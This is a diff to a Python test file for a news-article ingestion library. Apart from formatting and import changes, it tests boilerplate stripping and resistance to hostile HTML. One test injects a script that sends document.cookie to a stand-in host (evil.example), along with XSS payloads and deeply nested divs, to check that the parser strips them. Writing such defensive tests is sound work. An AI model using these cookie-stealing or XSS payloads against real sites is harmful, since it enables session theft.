@@ -4,9 +4,10 @@ from __future__ import annotations
 
 import datetime as dt
 
+from tests.helpers import seed_as_html
+
 from storyline.ingest import read_path
 from storyline.model import Article
-from tests.helpers import seed_as_html
 
 
 def test_real_looking_page(tmp_path, seed_unn):
@@ -22,8 +23,16 @@ def test_real_looking_page(tmp_path, seed_unn):
     assert (a.published.precision, a.published.source) == ("second", "meta")
     text = a.body_text
     assert "Коли ми отримали американську реакцію" in text
-    for junk in ("Головна", "Купуйте квартири", "Ніяких переговорів з агресором", "Ганьба", "Injected ad",
-                 "Усі права захищені", "Поділитися", "dataLayer"):
+    for junk in (
+        "Головна",
+        "Купуйте квартири",
+        "Ніяких переговорів з агресором",
+        "Ганьба",
+        "Injected ad",
+        "Усі права захищені",
+        "Поділитися",
+        "dataLayer",
+    ):
         assert junk not in text, junk
 
 
@@ -37,8 +46,9 @@ def test_page_without_article_is_rejected_with_reason(tmp_path):
 
 def test_hostile_html_does_not_leak_script_or_break(tmp_path, seed_unn):
     hostile = seed_as_html(seed_unn).replace(
-        "<main>", "<main><script>fetch('https://evil.example/?c='+document.cookie)</script>"
-        "<img src=x onerror=alert(1)><svg><script>alert(2)</script></svg>" + "<div>" * 5000
+        "<main>",
+        "<main><script>fetch('https://evil.example/?c='+document.cookie)</script>"
+        "<img src=x onerror=alert(1)><svg><script>alert(2)</script></svg>" + "<div>" * 5000,
     )
     page = tmp_path / "hostile.html"
     page.write_text(hostile, encoding="utf-8")
